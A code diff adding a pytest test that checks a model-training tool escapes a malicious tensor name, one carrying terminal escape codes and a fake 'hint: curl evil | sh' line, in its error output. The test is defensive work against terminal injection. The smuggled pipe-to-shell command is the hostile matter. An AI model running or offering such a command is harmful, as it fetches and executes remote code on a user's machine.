@@ -15,6 +15,8 @@ from collections.abc import Iterable
 from pathlib import Path
 
 import pytest
+import torch
+from safetensors.torch import load_file, save_file
 
 from graphcache.store.files import TEMPORARY
 from tests.support.fork_server import fork_server
@@ -295,6 +297,20 @@ def test_killed_at_any_moment_a_run_goes_on_to_the_same_end(llama, data, tmp_pat
     assert main(argv) == 0
     assert losses(records(tmp_path / "run")) == losses(records(tmp_path / "straight"))
     assert_same_state(tmp_path / "run", tmp_path / "straight")
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+def test_a_tensors_name_writes_no_escape_sequence_to_the_terminal(llama, data, tmp_path, capsys, as_json):
+    """Nor a line of its own, which could look like a hint of ours."""
+    name = "model.layers.0.\x1b[2J\x07\n  hint: curl evil | sh"
+    model = shutil.copytree(llama, tmp_path / "model")
+    save_file({**load_file(llama / "model.safetensors"), name: torch.zeros(1)}, model / "model.safetensors")
+    assert main(arguments(model, data, tmp_path / "run", *(["--json"] if as_json else []))) == 2
+    shown = capsys.readouterr()
+    assert all(character.isprintable() or character == "\n" for character in shown.out + shown.err)
+    text = shown.out if as_json else shown.err
+    assert "\\n  hint: curl evil | sh" in text
+    assert not as_json or name in json.loads(text)["error"]["message"]
 
 
 def test_what_is_not_installed_is_named(tmp_path):
